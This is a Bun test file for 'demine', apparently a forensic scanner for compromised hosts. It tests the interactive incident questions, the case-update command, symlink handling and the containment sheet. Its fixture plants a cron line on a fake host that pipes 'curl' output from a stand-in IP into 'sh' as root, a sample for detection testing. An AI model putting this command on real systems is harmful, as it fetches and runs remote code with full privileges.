/**
 * What the customer tells: the questions after a verdict in a real terminal, and `demine case set`, up to the result and
 * the report that follow. The scanned host is a folder, so nothing here needs a lab.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import {
  closeSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { resultSchema, type ScanResult } from '../../src/model/result.ts';
import { displayWidth } from '../../src/report/width.ts';
import { repository } from '../lab/host.ts';

const scratch = mkdtempSync(join(tmpdir(), 'demine-ask-'));
afterAll(() => rmSync(scratch, { recursive: true }));

const main = join(repository, 'src', 'cli', 'main.ts');
const mined = join(scratch, 'mined');
const clean = join(scratch, 'clean');
const network = join(scratch, 'net.csv');

function put(path: string, content: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
}

beforeAll(() => {
  for (const root of [mined, clean]) {
    put(join(root, 'etc/os-release'), 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12"\n');
    put(join(root, 'etc/hostname'), 'web-1\n');
    put(join(root, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/bash\n');
    mkdirSync(join(root, 'var/log'), { recursive: true });
  }
  put(join(mined, 'etc/cron.d/update'), '* * * * * root curl -fsSL http://192.0.2.66/x.sh | sh\n');
  put(network, 'subnet,zone,reach\n192.0.2.0/24,dmz,office\n198.51.100.0/24,office,*\n');
});

let number = 0;
const newCase = (): string => {
  number += 1;
  return join(scratch, `case-${number}`);
};

const resultOf = (folder: string): ScanResult =>
  resultSchema.parse(JSON.parse(readFileSync(join(folder, 'result.json'), 'utf8')));

interface Talked {
  readonly code: number;
  readonly said: string;
}

/** `demine …` in a terminal of 80 columns; each answer is typed once the program asks for it. */
async function talk(args: readonly string[], answers: readonly string[]): Promise<Talked> {
  let said = '';
  let seen = 0;
  const left = [...answers];
  const child = Bun.spawn([process.execPath, main, ...args], {
    cwd: scratch,
    env: { ...process.env, LC_ALL: 'C.UTF-8' },
    terminal: {
      cols: 80,
      rows: 40,
      data(terminal, data) {
        said += Buffer.from(data).toString('utf8');
        // The question is written before the cursor is put behind it.
        if (!/[?？]\s*\x1b\[\d+G$/.test(said.slice(seen))) return;
        seen = said.length;
        const answer = left.shift();
        if (answer !== undefined) terminal.write(answer);
      },
    },
  });
  const code = await child.exited;
  child.terminal?.close();
  return { code, said };
}

async function run(...args: readonly string[]): Promise<Talked & { readonly stderr: string }> {
  const child = Bun.spawn([process.execPath, main, ...args], {
    cwd: scratch,
    stdin: 'ignore',
    stdout: 'pipe',
    stderr: 'pipe',
  });
  const [said, stderr] = await Promise.all([
    new Response(child.stdout).text(),
    new Response(child.stderr).text(),
  ]);
  return { code: await child.exited, said, stderr };
}

const enter = '\r';
const asks = /When did it first appear\?|异常最早何时出现/;

describe('the questions after a verdict', () => {
  test('come in a terminal, and the answers are in the case, its result and its report', async () => {
    const folder = newCase();
    const { code, said } = await talk(
      ['scan', mined, '--out', folder, '--lang', 'en'],
      ['2024-03-01\r', '2090-01-01\r', '2024-03-05 03:04+08:00\r', enter, `${network}\r`],
    );
    expect(code).toBe(1);
    expect(said).toContain('"2090-01-01" lies in the future');
    expect(said).toContain('when it appeared, as the customer tells');
    const { told, infectionWindow } = resultOf(folder);
    expect(told).toMatchObject({
      appeared: '2024-03-01T00:00:00Z',
      discovered: '2024-03-04T19:04:00Z',
      until: { appeared: '2024-03-02T00:00:00Z' },
      network: [
        { subnet: '192.0.2.0/24', zone: 'dmz', reach: ['office'] },
        { subnet: '198.51.100.0/24', zone: 'office', reach: ['*'] },
      ],
    });
    expect(told?.handled).toBeUndefined();
    expect(infectionWindow).toEqual({ to: '2024-03-02T00:00:00Z', boundedBy: { to: 'appeared' } });
    expect((await run('case', 'show', folder, '--lang', 'en')).said).toContain('2024-03-01');
    expect(readdirSync(folder).sort()).toEqual(['case.sqlite', 'report.html', 'result.json']);
    for (const name of readdirSync(folder)) expect(statSync(join(folder, name)).mode & 0o777).toBe(0o600);
  });

  test('in Chinese, all skipped, leave the case as it was scanned', async () => {
    const folder = newCase();
    const { code, said } = await talk(
      ['scan', mined, '--out', folder, '--lang', 'zh-CN'],
      [enter, enter, enter, enter],
    );
    expect(code).toBe(1);
    expect(said).toMatch(asks);
    expect(said).not.toContain('已存入案件');
    expect(resultOf(folder).told).toBeUndefined();
  });

  for (const [name, key] of [
    ['Ctrl-C', '\x03'],
    ['end of input', '\x04'],
  ] as const) {
    test(`end with ${name}; what was answered stays, and the verdict is the exit code`, async () => {
      const folder = newCase();
      const { code, said } = await talk(
        ['scan', mined, '--out', folder, '--lang', 'en'],
        ['2024-03-01\r', key],
      );
      expect(code).toBe(1);
      expect(said).toContain('Kept in the case');
      expect(resultOf(folder).told).toMatchObject({ appeared: '2024-03-01T00:00:00Z', network: [] });
    });
  }

  test('do not come where nobody wants them, or no case takes the answers', async () => {
    expect((await talk(['scan', mined, '--out', newCase(), '--no-ask'], [])).said).not.toMatch(asks);
    expect((await talk(['scan', mined, '--no-case'], [])).said).not.toMatch(asks);
  });

  test('do not come where the host is clean; --ask brings them', async () => {
    const quiet = await talk(['scan', clean, '--out', newCase(), '--lang', 'en'], []);
    expect(quiet.code).toBe(0);
    expect(quiet.said).not.toMatch(asks);
    const folder = newCase();
    const asked = await talk(
      ['scan', clean, '--out', folder, '--ask', '--lang', 'en'],
      ['2024-03-01\r', enter, enter, enter],
    );
    expect(asked.code).toBe(0);
    const { told, infectionWindow, neighbours, verdict } = resultOf(folder);
    expect(told?.appeared).toBe('2024-03-01T00:00:00Z');
    // The customer's word alone infects no host.
    expect([verdict, infectionWindow, neighbours]).toEqual(['clean', undefined, undefined]);
  });

  test('never come without a terminal, and --ask says so', async () => {
    const silent = await run('scan', mined, '--out', newCase());
    expect(silent.said).not.toMatch(asks);
    expect(silent.stderr).toBe('');
    const forced = await run('scan', mined, '--out', newCase(), '--ask', '--lang', 'en');
    expect(forced.code).toBe(1);
    expect(forced.stderr).toContain('there is no terminal to ask in');
  });

  test('are in the JSON file too', async () => {
    const file = join(scratch, 'kept.json');
    const folder = newCase();
    await talk(
      ['scan', mined, '--out', folder, '--json', file, '--lang', 'en'],
      ['2024-03-01\r', enter, enter, enter],
    );
    expect(resultSchema.parse(JSON.parse(readFileSync(file, 'utf8'))).told?.appeared).toBe(
      '2024-03-01T00:00:00Z',
    );
  });
});

describe('demine case set', () => {
  test('writes the result and the report anew, from what the case holds and all that was told', async () => {
    const folder = newCase();
    await run('scan', mined, '--out', folder, '--lang', 'en');
    const before = resultOf(folder);
    expect(before.told).toBeUndefined();
    const first = await run('case', 'set', folder, '--appeared', '2024-03-05', '--lang', 'en');
    expect({ code: first.code, stderr: first.stderr }).toEqual({ code: 0, stderr: '' });
    expect(resultOf(folder).infectionWindow?.boundedBy.to).toBe('appeared');
    await run('case', 'set', folder, '--appeared', '2024-03-01', '--handled', '2024-03-02');
    const after = resultOf(folder);
    expect(after.told).toMatchObject({ appeared: '2024-03-01T00:00:00Z', handled: '2024-03-02T00:00:00Z' });
    // A corrected answer leaves nothing of the wrong one behind.
    expect(after.infectionWindow?.to).toBe('2024-03-02T00:00:00Z');
    expect(after.told?.contradictions?.map(({ what }) => what)).toEqual(['traces-after-handled']);
    const { told: _, infectionWindow: _w, neighbours: _n, ...rest } = after;
    const { infectionWindow: _b, neighbours: _m, ...scanned } = before;
    expect(rest).toEqual(scanned);
    for (const language of ['en', 'zh-CN']) {
      const { said } = await run('case', 'show', folder, '--lang', language);
      expect(said.split('\n').filter((row) => displayWidth(row) > 80)).toEqual([]);
      expect(said).toContain(
        language === 'en' ? 'All traces are later than the handling' : '所有痕迹都晚于处置时间',
      );
    }
  });

  test('takes the store itself for the case, and replaces a link instead of following it', async () => {
    const folder = newCase();
    await run('scan', mined, '--out', folder);
    const outside = join(scratch, 'outside.txt');
    writeFileSync(outside, 'mine');
    rmSync(join(folder, 'result.json'));
    symlinkSync(outside, join(folder, 'result.json'));
    // What a run that was ended in the middle left.
    writeFileSync(join(folder, '.report.html.new'), 'half');
    const { code } = await run('case', 'set', join(folder, 'case.sqlite'), '--appeared', '2024-03-01');
    expect(code).toBe(0);
    expect(readFileSync(outside, 'utf8')).toBe('mine');
    expect(lstatSync(join(folder, 'result.json')).isFile()).toBe(true);
    expect(resultOf(folder).told?.appeared).toBe('2024-03-01T00:00:00Z');
    expect(readdirSync(folder).sort()).toEqual(['case.sqlite', 'report.html', 'result.json']);
  });

  test('refuses times that cannot be and files that are none, and changes nothing', async () => {
    const folder = newCase();
    await run('scan', mined, '--out', folder);
    await run('case', 'set', folder, '--appeared', '2024-03-05');
    const before = readFileSync(join(folder, 'result.json'), 'utf8');
    const huge = join(scratch, 'huge.csv');
    closeSync(openSync(huge, 'w'));
    truncateSync(huge, 2 ** 30);
    for (const [args, words] of [
      [['--discovered', '2090-01-01'], 'lies in the future'],
      [['--handled', '2024-03-04'], '--handled lies before --appeared'],
      [['--network', huge], 'larger than 4 MiB'],
      [['--network', '/dev/zero'], 'no regular file'],
    ] as const) {
      const { code, stderr } = await run('case', 'set', folder, ...args, '--lang', 'en');
      expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringContaining(words) });
    }
    expect(readFileSync(join(folder, 'result.json'), 'utf8')).toBe(before);
  });
});

describe('demine contain --sheet', () => {
  test('prints the sheet in both languages, and a page for paper', async () => {
    for (const [language, words] of [
      ['en', 'Do not'],
      ['zh-CN', '不要动什么'],
    ] as const) {
      const { code, said, stderr } = await run('contain', '--sheet', '--lang', language);
      expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
      expect(said).toContain(words);
      const page = join(scratch, `sheet-${language}.html`);
      expect((await run('contain', '--sheet', '--html', page, '--lang', language)).code).toBe(0);
      expect(readFileSync(page, 'utf8')).toContain(words);
    }
    const unwritable = await run('contain', '--sheet', '--html', '/nowhere/sheet.html', '--lang', 'en');
    expect(unwritable.code).toBe(2);
    expect(unwritable.stderr).toContain('cannot be written to /nowhere/sheet.html');
  });
});
